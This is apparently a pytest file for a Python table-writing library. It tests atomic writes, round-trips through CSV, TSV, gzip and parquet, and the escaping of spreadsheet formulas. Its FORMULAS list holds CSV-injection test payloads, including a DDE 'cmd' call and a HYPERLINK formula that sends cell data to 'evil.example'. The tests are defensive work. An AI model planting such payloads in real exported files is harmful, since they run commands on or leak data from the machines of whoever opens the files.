"""Files are complete or not there, come back as they were, and run nowhere."""

import csv
import gzip
import io
import os
import re
import stat
from decimal import Decimal
from itertools import chain, product

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from corral.tables import read_table, write_atomically, write_csv, write_rows
from corral.tables._write import unescape_formula

COLUMNS = {
    "id": ["a", 'b "c", d', None],
    "label": np.array([0, 1, -1], dtype=np.int32),
    "score": np.array([0.1, np.nan, 1e-17]),
}
BACK = {
    "id": ["a", 'b "c", d', None],
    "label": [0, 1, -1],
    "score": [0.1, None, 1e-17],
}


@pytest.mark.parametrize(
    "name", ["r.csv", "r.CSV", "r.tsv", "r.csv.gz", "r.tsv.gz", "r.parquet", "r.pq"]
)
def test_rows_come_back(tmp_path, name):
    write_rows(tmp_path / name, COLUMNS)
    assert read_table(tmp_path / name).to_pydict() == BACK
    assert os.listdir(tmp_path) == [name]


def test_csv_is_plain():
    file = io.StringIO()
    write_csv(file, COLUMNS)
    assert file.getvalue() == ('id,label,score\na,0,0.1\n"b ""c"", d",1,\n,-1,1e-17\n')


def test_gzip_of_the_same_rows_is_the_same(tmp_path):
    write_rows(tmp_path / "a.csv.gz", COLUMNS)
    write_rows(tmp_path / "b.csv.gz", COLUMNS)
    assert (tmp_path / "a.csv.gz").read_bytes() == (tmp_path / "b.csv.gz").read_bytes()
    assert gzip.decompress((tmp_path / "a.csv.gz").read_bytes()).startswith(b"id,label")


def test_an_unknown_suffix_lists_the_known(tmp_path):
    with pytest.raises(ValueError, match=r"suffix '\.xlsx' is not known.*\.parquet"):
        write_rows(tmp_path / "r.xlsx", COLUMNS)


def test_columns_of_unequal_length_write_nothing(tmp_path):
    with pytest.raises(ValueError, match="same number of rows. Got 'a' 2, 'b' 1"):
        write_rows(tmp_path / "r.csv", {"a": [1, 2], "b": [1]})
    assert os.listdir(tmp_path) == []


@pytest.mark.parametrize("error", [ValueError, KeyboardInterrupt, SystemExit])
def test_what_ends_early_leaves_the_old_file(tmp_path, error):
    path = tmp_path / "r.txt"
    path.write_text("old")

    def stop():
        with write_atomically(path) as part:
            part.write_text("half")
            assert part.parent == tmp_path
            assert part.suffix == ".txt"
            raise error

    with pytest.raises(error):
        stop()
    assert path.read_text() == "old"
    assert os.listdir(tmp_path) == ["r.txt"]


def test_an_interrupt_within_a_column_leaves_no_file(tmp_path):
    class Stopping(list):
        def __iter__(self):
            raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        write_rows(tmp_path / "r.csv", {"a": Stopping([1])})
    assert os.listdir(tmp_path) == []


def test_a_link_stays_a_link(tmp_path):
    (tmp_path / "real.csv").write_text("old")
    (tmp_path / "link.csv").symlink_to("real.csv")
    write_rows(tmp_path / "link.csv", {"a": [1]})
    assert (tmp_path / "link.csv").is_symlink()
    assert (tmp_path / "real.csv").read_text() == "a\n1\n"


def test_a_device_is_written_to_and_not_replaced():
    with write_atomically("/dev/null") as part:
        part.write_text("gone")
    assert stat.S_ISCHR(os.stat("/dev/null").st_mode)


def test_a_folder_that_is_not_there(tmp_path):
    with pytest.raises(FileNotFoundError, match=r"gone' is not there. Make it first"):
        write_rows(tmp_path / "gone" / "r.csv", {"a": [1]})


def test_a_folder_is_no_file(tmp_path):
    (tmp_path / "r.csv").mkdir()
    with pytest.raises(ValueError, match=r"is a folder. Name a file in it"):
        write_rows(tmp_path / "r.csv", {"a": [1]})


# With each of them, a spreadsheet would take the cell for a formula.
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\tx",
    "\rx",
    " =1",
    "\u200b=1",
    "\ufeff=1",
    "\x00=1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "\ufe661",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    "-2+3+cmd|' /C calc'!A0",
    "'=1",
    "''=1",
    "-",
    "+",
    "-5 apples",
    "-5\n",
    "-\u0665",
    "-inf",
]

# How a cell begins that is run; quotes before it are dropped.
FORMULA = re.compile('"*[\\s\u200b]*[=+@-]')

HARMLESS = ["", "a=1", "a-b", "'", "'a", "a@b.example", "\u22125", "1e5", "x\t=1"]

NUMBERS = ["-5", "+3.2e4", "-0.5", "-.5", "-5.", "+0", "-1E-7", "12"]


def cells_of(columns, **settings):
    """Return what a CSV reader finds, below the head."""
    file = io.StringIO(newline="")
    write_csv(file, columns, **settings)
    file.seek(0)
    return list(csv.reader(file, delimiter=settings.get("delimiter", ",")))


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_a_formula_gets_an_apostrophe(text):
    for dtype in (None, object):
        columns = {text: np.array([text, "plain"], dtype=dtype), "label": [0, -1]}
        assert cells_of(columns) == [
            [f"'{text}", "label"],
            [f"'{text}", "0"],
            ["plain", "-1"],
        ]
    assert unescape_formula(f"'{text}") == text


@pytest.mark.parametrize("text", HARMLESS + NUMBERS, ids=ascii)
def test_other_texts_and_texts_that_are_numbers_stay(text):
    assert cells_of({"id": [text], "label": [0]})[1] == [text, "0"]
    assert unescape_formula(text) == text
    assert unescape_formula(f"'{text}") == f"'{text}"


def test_numbers_stay_numbers():
    columns = {
        "int": [-1, np.int8(-2)],
        "float": [-0.5, np.float64(-1e-9)],
        "infinite": np.array([-np.inf, np.inf]),
        "decimal": [Decimal("-3"), Decimal("+4")],
        "missing": [None, np.nan],
        "truth": [True, np.False_],
    }
    assert cells_of(columns)[1:] == cells_of(columns, escape_formulas=False)[1:]
    assert cells_of(columns)[1] == ["-1", "-0.5", "-inf", "-3", "", "True"]


@pytest.mark.parametrize(
    "name", ["r.csv", "r.tsv", "r.csv.gz", "r.tsv.gz", "r.parquet"]
)
@pytest.mark.parametrize("escape", [True, False])
def test_files_are_escaped_unless_told_and_parquet_never(tmp_path, name, escape):
    write_rows(tmp_path / name, {"=x": ["=1+1"]}, escape_formulas=escape)
    cell = "'=" if escape and "parquet" not in name else "="
    assert read_table(tmp_path / name).to_pydict() == {f"{cell}x": [f"{cell}1+1"]}


def test_cells_that_another_program_might_cut_are_quoted():
    # A program that takes semicolons or tabs for the ends of cells finds one cell, too.
    for part in (";", "\t", ",", "\r", "\n"):
        for delimiter in (",", "\t"):
            file = io.StringIO()
            columns = {"id": [f"a{part}=1+1"], "label": [0]}
            write_csv(file, columns, delimiter)
            assert f'"a{part}=1+1"{delimiter}0\n' in file.getvalue()


@pytest.mark.parametrize("start", ["a", '"', "", "=", "'"])
@pytest.mark.parametrize(
    "formula", ["=1", "'=1", ' "=1"', "\r\n-x", "\u200b@b"], ids=ascii
)
def test_no_program_finds_a_formula_in_a_text(start, formula):
    # Whatever it takes for the end of a cell, and whether it knows quotes or not.
    for end, delimiter in product(";\t,\r\n", ",\t"):
        text = f"{start}{end}{formula}"
        file = io.StringIO(newline="")
        write_csv(file, {"id": [0], text: [text], "label": [1]}, delimiter)
        for other, quoting in product(",;\t", (csv.QUOTE_MINIMAL, csv.QUOTE_NONE)):
            lines = file.getvalue().splitlines(keepends=True)
            for cell in chain(*csv.reader(lines, delimiter=other, quoting=quoting)):
                assert not FORMULA.match(cell), (text, file.getvalue(), cell)


# Letters that mean something in a file, and any others but halves of characters.
TEXTS = st.lists(
    st.sampled_from(["", *FORMULAS, *HARMLESS, *"\"',;\t\r\n\x00\\ =-", "\r\n", '""'])
    | st.text(st.characters(exclude_categories=["Cs"]), max_size=3),
    max_size=4,
).map("".join)


@settings(max_examples=60, deadline=None)
@given(st.lists(TEXTS, min_size=1, max_size=5), st.sampled_from(",\t"))
def test_any_text_comes_back(texts, delimiter):
    # By Python's reader and by ours, which is Arrow's; without the escape, as it is.
    columns = {"id": texts, "label": range(len(texts))}
    raw = cells_of(columns, delimiter=delimiter, escape_formulas=False)
    assert [cells[0] for cells in raw[1:]] == texts
    escaped = cells_of(columns, delimiter=delimiter)
    assert [unescape_formula(cells[0]) for cells in escaped[1:]] == texts
    assert all(len(cells) == 2 for cells in escaped)
    assert read_back(columns, delimiter) == texts


def read_back(columns, delimiter):
    pa_csv = pytest.importorskip("pyarrow.csv")
    file = io.StringIO(newline="")
    write_csv(file, columns, delimiter, escape_formulas=False)
    table = pa_csv.read_csv(
        io.BytesIO(file.getvalue().encode()),
        parse_options=pa_csv.ParseOptions(delimiter=delimiter, newlines_in_values=True),
        convert_options=pa_csv.ConvertOptions(column_types={"id": "string"}),
    )
    return table["id"].to_pylist()
